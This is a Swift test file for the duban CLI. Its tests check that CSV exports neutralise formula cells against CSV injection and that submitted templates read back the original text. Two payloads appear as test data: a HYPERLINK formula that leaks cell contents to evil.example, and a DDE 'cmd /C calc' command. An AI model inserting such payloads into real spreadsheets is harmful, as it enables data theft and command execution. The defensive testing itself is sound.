import Foundation
import XCTest

/// Every CSV duban writes neutralises a cell that a spreadsheet would run as a formula (OWASP
/// "CSV Injection": `=`, `+`, `-`, `@`, tab, CR; `'` before it, quoted), keeps plain numbers as
/// numbers, and a CSV template filled in and submitted back reads the original text.
final class CSVInjectionTests: CLITestCase {
    static let hyperlink = #"=HYPERLINK("http://evil.example/?q="&A1,"点击查看")"#
    static let command = "+cmd|' /C calc'!A0"

    var cli: CLIRunner!

    override func setUpWithError() throws {
        cli = try CLIRunner()
        let plan = try cli.copyOfZhangye(editing: "units.yaml") { text in
            let edited = text.replacingOccurrences(of: "    name: 甘州区\n", with: "    name: '@甘州区'\n")
            XCTAssertNotEqual(edited, text)
            return edited
        }
        XCTAssertEqual(try cli.run(["plan", "load", plan]).code, 0)
    }

    /// The cells of an RFC 4180 text (quotes undone).
    func cells(_ csv: String) -> [String] {
        var out: [String] = [], cell = "", quoted = false, wasQuoted = false
        var chars = Array(csv.unicodeScalars)[...]
        if chars.first == "\u{FEFF}" { chars = chars.dropFirst() }
        var i = chars.startIndex
        while i < chars.endIndex {
            let c = chars[i]
            if quoted {
                if c == "\"" {
                    if i + 1 < chars.endIndex && chars[i + 1] == "\"" { cell.unicodeScalars.append("\""); i += 1 } else { quoted = false }
                } else { cell.unicodeScalars.append(c) }
            } else if c == "\"" && cell.isEmpty && !wasQuoted {
                quoted = true
                wasQuoted = true
            } else if c == "," || c == "\r" || c == "\n" {
                if c != "\n" || !(i > chars.startIndex && chars[i - 1] == "\r") { out.append(cell) }
                cell = ""
                wasQuoted = false
            } else { cell.unicodeScalars.append(c) }
            i += 1
        }
        if !cell.isEmpty { out.append(cell) }
        return out
    }

    func isFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first, "=+-@\t\r＝＋－＠".unicodeScalars.contains(first) else { return false }
        return cell.range(of: #"^[+-]?[0-9]+(\.[0-9]+)?%?$"#, options: .regularExpression) == nil
    }

    func testNoCSVOutputHasAFormulaCell() throws {
        for args in [["progress", "record", "--unit", "ganzhou", "--task", "7", "--milestone", "7.1", "--status", "in_progress",
                      "--percent", "10", "--date", "2024-01-10", "--note", Self.hyperlink],
                     ["action", "record", "--unit", "ganzhou", "--level", "letter", "--date", "2024-03-01",
                      "--ref", Self.command, "--note=-1+2"],
                     ["extension", "record", "--unit", "ganzhou", "--task", "7", "--milestone", "7.1", "--new-due", "2024-06-30",
                      "--reason", "\tTAB", "--date", "2023-12-20"]] {
            let r = try cli.run(args)
            XCTAssertEqual(r.code, 0, "\(args): \(r.stderr)")
        }
        let asOf = ["--as-of", "2024-04-10"]
        let commands: [[String]] = [
            ["overdue"] + asOf, ["notify"] + asOf, ["escalate"] + asOf, ["units"], ["history"], ["actions"], ["extensions"],
            ["status"] + asOf, ["ledgers"] + asOf, ["tasks", "--unit", "ganzhou"], ["task", "7"],
            ["ledger", "template", "--unit", "ganzhou", "--period", "2024-02"],
        ]
        var neutralised = 0
        for command in commands {
            let r = try cli.run(command + ["--format", "csv"])
            let what = command.joined(separator: " ")
            XCTAssertEqual(r.code, 0, "\(what): \(r.stderr)")
            let all = cells(r.stdout)
            XCTAssertFalse(all.isEmpty, what)
            for cell in all where isFormula(cell) { XCTFail("\(what): formula cell \(cell.debugDescription)") }
            neutralised += all.filter { $0.hasPrefix("'@甘州区") || $0.hasPrefix("'=HYPERLINK") || $0.hasPrefix("'+cmd") }.count
        }
        XCTAssertGreaterThanOrEqual(neutralised, 10, "the hostile names and notes are shown, neutralised")
        let history = try cli.run(["history", "--format", "csv"]).stdout
        XCTAssertTrue(history.contains(#""'=HYPERLINK(""http://evil.example/?q=""&A1,""点击查看"")""#), history)
    }

    func testAFilledTemplateReadsBackTheOriginalText() throws {
        // January's ledger says, in YAML, what a liaison copied from a web page.
        let yaml = try String(contentsOfFile: CLIRunner.zhangye + "/samples/ganzhou-2024-01.yaml", encoding: .utf8)
        var lines = yaml.components(separatedBy: "\n")
        let unit = try XCTUnwrap(lines.firstIndex(of: "unit: 甘州区"))
        lines[unit] = "unit: ganzhou" // named '@甘州区' in this plan
        for (task, text) in [("1", Self.hyperlink), ("2", Self.command)] {
            let entry = try XCTUnwrap(lines.firstIndex(of: "  - task: \(task)"))
            let progress = try XCTUnwrap(lines[entry...].firstIndex { $0.hasPrefix("    progress: ") })
            lines[progress] = "    progress: '" + text.replacingOccurrences(of: "'", with: "''") + "'"
        }
        let january = cli.directory.appendingPathComponent("jan.yaml").path
        try lines.joined(separator: "\n").write(toFile: january, atomically: true, encoding: .utf8)
        let submitted = try cli.run(["ledger", "submit", january])
        XCTAssertEqual(submitted.code, 0, submitted.stderr)

        // February's CSV template carries that text forward, neutralised.
        let template = try cli.run(["ledger", "template", "--unit", "ganzhou", "--period", "2024-02", "--format", "csv"])
        XCTAssertEqual(template.code, 0, template.stderr)
        XCTAssertTrue(template.stdout.contains(#""'=HYPERLINK(""http://evil.example"#), template.stdout)
        XCTAssertTrue(template.stdout.contains(#""'+cmd|' /C calc'!A0""#), template.stdout)
        for cell in cells(template.stdout) where isFormula(cell) { XCTFail("template: formula cell \(cell.debugDescription)") }

        // Filled in as it stands (the liaison adds name, phone and date) and submitted back.
        let filled = template.stdout
            .replacingOccurrences(of: "联络员,\r\n", with: "联络员,李某某\r\n")
            .replacingOccurrences(of: "联系电话,\r\n", with: "联系电话,0936-0000001\r\n")
            .replacingOccurrences(of: #"报送日期,\d{4}-\d{2}-\d{2}"#, with: "报送日期,2024-03-04", options: .regularExpression)
            .replacingOccurrences(of: ",未启动,0,,,,,,\r\n", with: ",未启动,0,,尚未开始,,,,\r\n") // a milestone row with no record
        let february = cli.directory.appendingPathComponent("feb.csv").path
        try filled.write(toFile: february, atomically: true, encoding: .utf8)
        let back = try cli.run(["ledger", "submit", february])
        XCTAssertEqual(back.code, 0, back.stderr)

        // What was stored is the original text: March's YAML template prefills it as written.
        let march = try cli.run(["ledger", "template", "--unit", "ganzhou", "--period", "2024-03"])
        XCTAssertEqual(march.code, 0, march.stderr)
        let history = try cli.run(["history", "--unit", "ganzhou", "--format", "json"]).stdout
        XCTAssertTrue(history.contains("feb.csv"), history)
        let json = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(history.utf8)) as? [[String: Any]])
        let februaryTexts = json.filter { ($0["source"] as? String ?? "").contains("feb.csv") }.compactMap { $0["progress"] as? String }
        XCTAssertTrue(februaryTexts.contains(Self.hyperlink), "\(februaryTexts)")
        XCTAssertTrue(februaryTexts.contains(Self.command), "\(februaryTexts)")
        XCTAssertFalse(februaryTexts.contains { $0.hasPrefix("'") }, "\(februaryTexts)")
    }
}
